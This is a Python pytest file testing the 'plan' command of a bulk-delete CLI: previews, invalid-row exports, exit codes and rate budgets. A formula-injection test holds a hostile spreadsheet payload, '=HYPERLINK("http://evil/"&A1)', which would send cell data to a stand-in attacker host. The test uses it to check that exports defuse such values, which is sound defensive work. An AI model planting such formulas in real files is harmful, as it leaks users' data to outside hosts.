"""`bulk-delete plan` through the real CLI: output, files, exit codes, no tracebacks."""

from __future__ import annotations

import csv
import json
import shlex
import subprocess
import sys
from collections.abc import Callable
from pathlib import Path
from typing import Any

import pytest
from click.testing import CliRunner

from bulk_delete.cli.main import cli

from ..conftest import demo_env, run_cli

G1 = "3aee22bd-8419-422a-8242-c510df9af021"
G2 = "3aee22bd-8419-422a-8242-c510df9af022"
SAMPLES = Path(__file__).parents[2] / "sample_inputs"
G = "00000000-0000-4000-8000-{:012d}"


def invoke(*args: str) -> tuple[int, str, str]:
    result = CliRunner().invoke(cli, list(args))
    return result.exit_code, result.stdout, result.stderr


def test_plan_prints_summary_and_sends_nothing(write_csv: Callable[..., Path]) -> None:
    path = write_csv(f"ProspectId,Codes\n{G1},163\n{G1},166\nbad,1\n")
    code, out, _ = invoke("plan", str(path), "--rate", "pro")
    assert code == 0
    assert "requests               1" in out
    assert "ProspectId is not a GUID (row 4)" in out
    assert "5/5s (pro)" in out
    assert "NO DATE FILTER" in out
    assert "nothing was sent" in out


def test_plan_writes_preview_and_invalid_files(
    write_csv: Callable[..., Path], tmp_path: Path
) -> None:
    path = write_csv(f"ProspectId,Codes,To\n{G1},163,2024-01-31\n{G2},166 163,\nnope,1,\n")
    out, bad = tmp_path / "preview.csv", tmp_path / "invalid.csv"
    code, _, _ = invoke("plan", str(path), "--out", str(out), "--invalid-out", str(bad))
    assert code == 0
    with out.open() as handle:
        preview = list(csv.DictReader(handle))
    assert list(preview[0]) == [
        "ProspectId",
        "ActivityEventList",
        "FromDate",
        "ToDate",
        "StatusWebhookURL",
        "source_rows",
        "body",
    ]
    assert preview[1]["ActivityEventList"] == "163;166"
    assert json.loads(preview[0]["body"]) == {
        "ProspectId": G1,
        "ActivityEventList": ["163"],
        "ToDate": "2024-01-31 23:59:59",
    }
    with bad.open() as handle:
        invalid = list(csv.DictReader(handle))
    assert invalid == [
        {
            "row": "4",
            "reason": "ProspectId 'nope' is not a GUID",
            "ProspectId": "nope",
            "ActivityEventList": "1",
            "FromDate (as written)": "",
            "ToDate (as written)": "",
            "StatusWebhookURL": "",
        }
    ]


def test_plan_preview_as_xlsx(write_csv: Callable[..., Path], tmp_path: Path) -> None:
    import openpyxl

    out = tmp_path / "preview.xlsx"
    code, _, _ = invoke(
        "plan", str(write_csv(f"ProspectId\n{G1}\n")), "--codes", "163", "--out", str(out)
    )
    assert code == 0
    sheet = openpyxl.load_workbook(out).active
    assert sheet is not None
    assert [c.value for c in sheet[2]][:2] == [G1, "163"]


@pytest.mark.parametrize(
    ("content", "args", "message"),
    [
        (b"", (), "empty"),
        (b"ProspectId,Codes\n", (), "nothing to send: in.csv has no data row below its header"),
        (b"Name\nx\n", (), "no ProspectId column"),
        (b"\x00\x00binary", (), "not a text file"),
        (b"ProspectId\n" + G1.encode() + b"\n", ("--rate", "fast"), "--rate: 'fast'"),
        (b"ProspectId\n" + G1.encode() + b"\n", ("--codes", "1,x"), "--codes"),
        (b"ProspectId\n" + G1.encode() + b"\n", ("--tz", "Nowhere/City"), "IANA"),
        (b"ProspectId\n" + G1.encode() + b"\n", ("--sheet", "Leads"), "Excel files only"),
    ],
)
def test_plan_bad_input_exit_codes(
    tmp_path: Path, content: bytes, args: tuple[str, ...], message: str
) -> None:
    path = tmp_path / "in.csv"
    path.write_bytes(content)
    code, out, err = invoke("plan", str(path), *args)
    assert code == 2
    assert message in err
    assert "Traceback" not in err + out
    assert len(err.strip().splitlines()) == 1  # a one-line reason


def test_plan_unknown_sheet_and_fake_xlsx(tmp_path: Path) -> None:
    code, _, err = invoke("plan", str(SAMPLES / "leads.xlsx"), "--sheet", "Nope")
    assert code == 2
    assert "no sheet named 'Nope'" in err
    fake = tmp_path / "fake.xlsx"
    fake.write_text("ProspectId\n")
    code, _, err = invoke("plan", str(fake))
    assert code == 2
    assert "not a valid Excel workbook" in err


def test_samples_plan_with_their_bad_rows_shown() -> None:
    code, out, _ = invoke("plan", str(SAMPLES / "leads.csv"))
    assert code == 0
    assert "Invalid rows (never sent): 4" in out
    code, out, _ = invoke("plan", str(SAMPLES / "leads.xlsx"))
    assert code == 0
    assert "Excel error #N/A" in out


@pytest.mark.e2e
def test_python_dash_m_entry_point() -> None:
    done = subprocess.run(
        [sys.executable, "-m", "bulk_delete", "plan", str(SAMPLES / "leads.csv")],
        capture_output=True,
        text=True,
        check=False,
    )
    assert done.returncode == 0, done.stderr
    assert "Plan for" in done.stdout


async def test_check_codes_names_each_code_and_spends_the_budget(
    emulator: Any, tmp_path: Path
) -> None:
    emu = await emulator(rate="off")
    path = tmp_path / "in.csv"
    path.write_text(f"ProspectId,Codes\n{G1},201;12\n{G2},999\n")
    done = await run_cli("plan", str(path), "--check-codes", env=demo_env(emu.url))
    assert done.returncode == 0, done.stderr
    assert "3 call(s) of the rate budget" in done.stdout
    assert "201  Demo Booked" in done.stdout
    assert "12  UNKNOWN" in done.stdout
    assert "999  UNKNOWN" in done.stdout
    assert emu.records == []  # nothing deleted, only looked up
    no_keys = await run_cli(
        "plan", str(path), "--check-codes", env={"LSQ_HOST": emu.url, "LSQ_ACCESS_KEY": ""}
    )
    assert no_keys.returncode == 2
    wrong = await run_cli(
        "plan", str(path), "--check-codes", env={**demo_env(emu.url), "LSQ_SECRET_KEY": "x"}
    )
    assert wrong.returncode == 3
    assert "401" in wrong.stderr


def test_mixed_separators_name_the_rows(write_csv: Callable[..., Path]) -> None:
    path = write_csv(f"ProspectId,Codes\n{G1},163\n{G2};166\n{G1},163;166|170\n")
    code, out, _ = invoke("plan", str(path))
    assert code == 0
    assert f"row 3: ProspectId '{G2};166' is not a GUID" in out  # a semicolon row in a comma file
    assert "163 ×1, 166 ×1, 170 ×1" in out  # mixed separators inside a codes cell are fine


def test_header_only_says_there_is_nothing_to_send(write_csv: Callable[..., Path]) -> None:
    code, out, err = invoke("plan", str(write_csv("ProspectId,Codes\n")))
    assert code == 2
    assert "nothing to send: leads.csv has no data row below its header" in err
    assert "To send it" not in out


def test_xlsx_exports_keep_formula_like_cells_as_text(
    write_csv: Callable[..., Path], tmp_path: Path
) -> None:
    import openpyxl

    out = tmp_path / "invalid.xlsx"
    code, _, _ = invoke(
        "plan",
        str(write_csv('ProspectId,Codes\n"=HYPERLINK(""http://x"")",1\n')),
        "--invalid-out",
        str(out),
    )
    assert code == 2  # no row is valid: nothing to send, but the invalid rows are written
    sheet = openpyxl.load_workbook(out).active
    assert sheet is not None
    cell = sheet["C2"]
    assert cell.value == '=HYPERLINK("http://x")'
    assert cell.data_type == "s"  # text, not a live formula in our own export


def test_csv_outputs_defuse_formulas_and_keep_long_values_whole(
    write_csv: Callable[..., Path], tmp_path: Path
) -> None:
    hostile = '=HYPERLINK("http://evil/"&A1)'
    long_pid = "x" * 100_000
    sheet = write_csv(
        "ProspectId,Codes,Webhook\n"
        f"{long_pid},1,\n"
        f'"{hostile.replace(chr(34), chr(34) * 2)}",1,\n'
        f"{G1},+2,\n"
        f"{G2},1,@SUM(1)\n"
    )
    out = tmp_path / "invalid.csv"
    code, _, text = invoke("plan", str(sheet), "--invalid-out", str(out))
    assert code == 2  # no row is valid: the reasons are in the error, the rows in the file
    with out.open(newline="") as handle:
        rows = list(csv.DictReader(handle))
    assert rows[0]["ProspectId"] == long_pid  # the invalid-rows file keeps the whole value
    assert rows[1]["ProspectId"] == "'" + hostile
    assert rows[2]["ActivityEventList"] == "'+2"
    assert rows[3]["StatusWebhookURL"] == "'@SUM(1)"
    assert len(text) < 1000  # messages cut it
    assert "xxx…" in text
    assert oct(out.stat().st_mode & 0o777) == "0o600"


async def test_the_next_command_repeats_multiple_options_and_drops_dry_run(
    tmp_path: Path,
) -> None:
    sheet = tmp_path / "leads.csv"
    sheet.write_text(
        f"ProspectId,Form Date,Codes,FromDate,ToDate\n{G.format(1)},x,201,2025-01-01,2025-01-31\n"
    )
    plan = await run_cli("plan", str(sheet), "--ignore-column", "Form Date")
    words = shlex.split(plan.stdout.strip().splitlines()[-1])
    assert words[2:5] == [str(sheet), "--ignore-column", "Form Date"]
    dry = await run_cli(
        "run",
        str(sheet),
        "--ignore-column",
        "Form Date",
        "--dry-run",
        "--checkpoint",
        str(tmp_path / "c.sqlite"),
    )
    words = shlex.split(dry.stdout.strip().splitlines()[-1])
    assert "--dry-run" not in words
    assert words[-2:] == ["--checkpoint", str(tmp_path / "c.sqlite")]
